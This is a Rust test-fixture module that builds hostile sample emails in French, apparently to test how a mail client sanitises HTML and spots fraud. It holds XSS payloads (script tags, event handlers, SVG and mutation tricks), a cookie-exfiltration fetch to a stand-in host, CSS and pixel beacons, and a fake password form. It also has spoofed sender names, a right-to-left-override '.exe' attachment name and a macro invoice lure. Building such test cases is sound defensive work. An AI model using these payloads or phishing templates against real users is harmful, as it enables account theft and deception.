//! HTML that wants to run, to phone home, to cover the page or to deceive.
//! Every host is under `.example`, every script harmless.

use super::super::mime::{self, Charset, Part};
use super::super::people::first;
use super::{Odd, Odds, odd, spam};

pub(super) const CASES: &[Odd] = &[
    odd(scripts),
    odd(handlers),
    odd(vector),
    odd(styles),
    odd(cover),
    spam(form),
    odd(head_tags),
    odd(frames),
    odd(links),
    odd(tracking),
    odd(hidden_name),
    spam(hidden_name_encoded),
    odd(override_name),
    odd(unclosed),
    odd(mutation),
    spam(lottery),
    spam(invoice),
];

fn scripts(o: &mut Odds) -> Vec<u8> {
    let text = o.say("{bonjour}<br><br>Résultats de {P} ci-dessous.");
    let body = format!(
        "<html><body><script>window.top.document.title='pwned';fetch('https://fuite.example/'+document.cookie)</script>\n<p>{text}</p>\n<SCRIPT SRC=https://fuite.example/x.js></SCRIPT><scr<script>ipt>alert(1)</scr</script>ipt>\n<script type=\"text/javascript\">//<![CDATA[\nalert('1')\n//]]></script><noscript><img src=\"https://fuite.example/n.gif\"></noscript>\n<p>Fin du message.</p></body></html>"
    );
    o.html(&o.head("Resultats a lire (script)"), &body)
}

fn handlers(o: &mut Odds) -> Vec<u8> {
    let text = o.say("Bonjour, {Pn} a un rendez-vous le {rdv}.");
    let body = format!(
        "<body onload=\"alert(1)\" onpageshow=alert(2)><p onclick='alert(3)' onmouseover=alert(4)>{text}</p><img src=x onerror=\"parent.location='https://fuite.example/'\"><img src=\"x\"\nonerror\n=\n\"alert(5)\"><details open ontoggle=alert(6)><summary>Détails</summary>Texte</details><input autofocus onfocus=alert(7)><video><source onerror=alert(8)></video><marquee onstart=alert(9)>Urgent</marquee></body>"
    );
    o.html(&o.head("Rendez-vous (gestionnaires)"), &body)
}

fn vector(o: &mut Odds) -> Vec<u8> {
    let body = "<p>Schéma joint :</p><svg width=\"120\" height=\"80\" onload=\"alert(1)\"><script>alert(2)</script><circle cx=\"40\" cy=\"40\" r=\"30\" fill=\"teal\"/><a xlink:href=\"javascript:alert(3)\"><text x=\"10\" y=\"20\">lien</text></a><foreignObject><iframe src=\"https://fuite.example/\"></iframe></foreignObject><animate attributeName=\"href\" values=\"javascript:alert(4)\"/><image href=\"https://fuite.example/svg.png\"/><use href=\"https://fuite.example/u.svg#x\"/></svg><math><mtext><mglyph><style><img src=x onerror=alert(5)></style></mglyph></mtext></math><p>Après le schéma.</p>";
    o.html(&o.head("Schema anatomique (svg)"), body)
}

fn styles(o: &mut Odds) -> Vec<u8> {
    let body = "<html><head><link rel=\"stylesheet\" href=\"https://fuite.example/a.css\"><style>@import \"https://fuite.example/b.css\"; @font-face{font-family:x;src:url(https://fuite.example/f.woff2)} body{background:url('https://fuite.example/bg.png')} p{background-image:url(\\68 ttps://fuite.example/esc.png)} li{list-style:url(//fuite.example/li.png)} a{cursor:url(https://fuite.example/c.cur),auto} div:hover{background:image-set('https://fuite.example/i.png' 1x)} * {color:expression(alert(1))} input[value^=\"1\"]{background:url(https://fuite.example/1)} p::before{content:url(https://fuite.example/ct.png)}</style></head><body><p style=\"background:url(&quot;https://fuite.example/in.png&quot;);behavior:url(x.htc);-moz-binding:url(x.xml)\">Compte rendu de la réunion.</p><ul><li>Un</li><li>Deux</li></ul><div style=\"width:100px;height:20px;border-image:url(https://fuite.example/bi.png) 30\">Trois</div></body></html>";
    o.html(&o.head("Compte rendu (feuilles de style)"), body)
}

fn cover(o: &mut Odds) -> Vec<u8> {
    let body = "<style>#v{position:fixed;inset:0;z-index:2147483647;background:#fff} body{margin:-9999px} html{display:none}</style><div id=v style=\"position:fixed!important;top:0;left:0;width:100vw;height:100vh\"><h1>Session expirée</h1><p>Saisissez votre mot de passe pour continuer.</p><a href=\"https://fuite.example/connexion\" style=\"position:absolute;inset:0\">Continuer</a></div><p style=\"margin-top:-4000px;transform:scale(9)\">Texte caché</p><p>Texte ordinaire, qui doit rester lisible.</p>";
    o.html(&o.head("Votre session (position fixe)"), body)
}

fn form(o: &mut Odds) -> Vec<u8> {
    let body = "<form action=\"https://fuite.example/vol\" method=post target=_top><p>Votre boîte est pleine. Confirmez votre identité :</p><input name=login placeholder=\"Adresse\"><input type=password name=pw autocomplete=current-password><button formaction=\"javascript:alert(1)\">Valider</button><input type=image src=https://fuite.example/b.png><textarea name=t></textarea><select><option>Oui</option></select></form>";
    let from = "Support Messagerie <support@pli-verification.example>";
    o.html(&o.head_from(from, "Action requise : votre boite est pleine"), body)
}

fn head_tags(o: &mut Odds) -> Vec<u8> {
    let body = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://fuite.example/\"><meta http-equiv=\"Set-Cookie\" content=\"a=b\"><base href=\"https://fuite.example/\" target=\"_top\"><link rel=dns-prefetch href=//fuite.example><link rel=preload as=image href=https://fuite.example/p.png><link rel=icon href=https://fuite.example/i.ico><title>Faux titre</title></head><body><p>Le planning est <a href=\"planning.html\">ici</a> <img src=\"relatif.png\" alt=\"relatif\"></p></body></html>";
    o.html(&o.head("Planning du mois (base et refresh)"), body)
}

fn frames(o: &mut Odds) -> Vec<u8> {
    let body = "<p>Vidéo de formation :</p><iframe src=\"https://fuite.example/v\" srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"https://fuite.example/o.swf\"><embed src=\"https://fuite.example/e\"></object><applet code=x></applet><audio src=https://fuite.example/a.mp3 autoplay></audio><video poster=https://fuite.example/p.jpg src=https://fuite.example/v.mp4 autoplay></video><frameset><frame src=https://fuite.example/f></frameset><portal src=https://fuite.example></portal><p>Merci.</p>";
    o.html(&o.head("Formation en ligne (cadres)"), body)
}

fn links(o: &mut Odds) -> Vec<u8> {
    let body = "<p>Liens utiles :</p><ul><li><a href=\"javascript:alert(1)\">Calculateur</a></li><li><a href=\"  java\tscript:alert(2)\">Score</a></li><li><a href=\"&#106;&#97;vascript:alert(3)\">Barème</a></li><li><a href=\"data:text/html,<script>alert(4)</script>\">Document</a></li><li><a href=\"vbscript:msgbox(1)\">Ancien</a></li><li><a href=\"file:///C:/partage\">Partage</a></li><li><a href=\"https://fuite.example/connexion\">https://pli.mssante.example/connexion</a></li><li><a href=\"https://www.lettre-sante.example/ok\" target=_top ping=\"https://fuite.example/ping\">Recommandations</a></li><li><a href=\"https://xn--pl-fka.example/\">plí.example</a></li><li><a href=\"mailto:claire.martin@medecin.mssante.example?subject=Bonjour&bcc=espion@fuite.example\">M’écrire</a></li><li><a href=\"tel:+33199001234\">01 99 00 12 34</a></li></ul><map name=m><area href=\"javascript:alert(5)\" coords=\"0,0,50,50\"></map>";
    o.html(&o.head("Liens utiles pour le cabinet"), body)
}

fn tracking(o: &mut Odds) -> Vec<u8> {
    let body = "<table background=\"https://suivi.example/bg.gif\"><tr><td><p>La lettre mensuelle du réseau est parue.</p><img src=\"https://suivi.example/o.gif?u=42\" width=1 height=1><img srcset=\"https://suivi.example/a.jpg 1x, https://suivi.example/b.jpg 2x\" alt=\"Couverture\"><picture><source srcset=\"https://suivi.example/c.webp\"><img src=\"https://suivi.example/c.jpg\" alt=\"Graphique\"></picture><img src=\"http://suivi.example/en-clair.png\" alt=\"en clair\"><img src=\"//suivi.example/sans-schema.png\" alt=\"\"><img src=\"cid:absent@nulle.part\" alt=\"image absente\"><img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\" alt=\"\"><bgsound src=https://suivi.example/s.mid></td></tr></table>";
    o.html(&o.head("La lettre du reseau (pixels)"), body)
}

fn hidden_name(o: &mut Odds) -> Vec<u8> {
    let me = first();
    let from = format!("\"Dr Claire Martin <{}>\" <contact@cabinet-martin.courriel.example>", me.address);
    o.plain(
        &o.head_from(&from, "Coordonnees bancaires du cabinet"),
        "Bonjour,\n\nMerci d’utiliser désormais ce nouveau RIB pour les rétrocessions.\n\nDr Claire Martin",
    )
}

fn hidden_name_encoded(o: &mut Odds) -> Vec<u8> {
    let name = mime::words("Assistance Pli – assistance@pli.mssante.example", Charset::Utf8, false);
    let from = format!("{name}\r\n <noreply@pli-securite.example>");
    let head = o
        .head_from(&from, "Votre code a expire")
        .replace("MIME-Version", "Reply-To: Assistance <collecte@fuite.example>\r\nMIME-Version");
    o.plain(&head, "Votre accès sera suspendu dans 24 heures.\n\nRépondez à ce message avec votre code à six chiffres.\n\nhttps://pli-securite.example/connexion")
}

/// A file name that shows `ordonnance_fdp.exe` backwards.
fn override_name(o: &mut Odds) -> Vec<u8> {
    let text = Part::text(
        "text/plain",
        &o.say("{bonjour}\n\nL’ordonnance de {Pn} est jointe.\n\n{salut}"),
        Charset::Utf8,
        mime::Encoding::Quoted,
    );
    let file = Part::file(
        "application/octet-stream",
        "ordonnance_\u{202E}fdp.exe",
        None,
        b"MZ not a program, a sample for the demonstration\n",
    );
    let mut out = o.head("Ordonnance a imprimer").into_bytes();
    Part::multi("mixed", o.salt, vec![text, file]).write(&mut out);
    out
}

fn unclosed(o: &mut Odds) -> Vec<u8> {
    let text = o.say("<p>Suite du dossier {Pn}<b>très <i>important</b> mal</i> imbriqué <a href='https://www.lettre-sante.example/?q=\"><img src=x onerror=alert(1)>'>lien</a><table><tr><td>cellule<td>autre<p>dans le tableau<!-- commentaire jamais fermé <p>perdu</p>");
    let body = format!("</div></div></body></html>{text}{}", "<div><blockquote>".repeat(400));
    o.html(&o.head("Suite du dossier (balises)"), &body)
}

fn mutation(o: &mut Odds) -> Vec<u8> {
    let body = "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><template><img src=x onerror=alert(2)></template><textarea><img title=\"</textarea><img src=x onerror=alert(3)>\"></textarea><xmp><p title=\"</xmp><img src=x onerror=alert(4)>\"></xmp><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)></style></mglyph></form><!--[if mso]><p>Outlook seulement</p><![endif]--><![CDATA[<img src=x onerror=alert(6)>]]><p id=\"__proto__\" name=\"location\" class=\"app header nav\">Paragraphe ordinaire.</p><style></style ><p>Fin.</p>";
    o.html(&o.head("Note de service (mutations)"), body)
}

fn lottery(o: &mut Odds) -> Vec<u8> {
    let body = "<center><font color=red size=7><b>FELICITATIONS !!!</b></font><br><font size=5>Vous avez été sélectionné(e) pour recevoir un <u>tensiomètre connecté</u></font><br><br><a href=\"http://cadeau.example/?id=1\"><img src=\"http://cadeau.example/banniere.gif\" border=0 alt=\"CLIQUEZ ICI\"></a><br><font color=white size=1>ostéoporose tramadol réunion lundi facture planning</font></center>";
    o.html(
        &o.head_from("\"Service Cadeaux\" <gagnant@cadeau.example>", "=?utf-8?B?8J+OgSBWb3VzIGF2ZXogZ2FnbsOpICE=?="),
        body,
    )
}

fn invoice(o: &mut Odds) -> Vec<u8> {
    let subject = "Facture impayee - derniere relance";
    let text = Part::text(
        "text/plain",
        "Madame, Monsieur,\n\nMalgré nos relances la facture jointe demeure impayée. Veuillez l’ouvrir et activer les macros.\n\nService recouvrement",
        Charset::Latin1,
        mime::Encoding::Quoted,
    );
    let file = Part::file(
        "application/vnd.ms-excel.sheet.macroEnabled.12",
        "Facture_2026.xlsm",
        None,
        b"PK\x03\x04 a sample, not a workbook",
    );
    let mut out = o.head_from("Recouvrement <compta@recouvrement-express.example>", subject).into_bytes();
    Part::multi("mixed", o.salt, vec![text, file]).write(&mut out);
    out
}
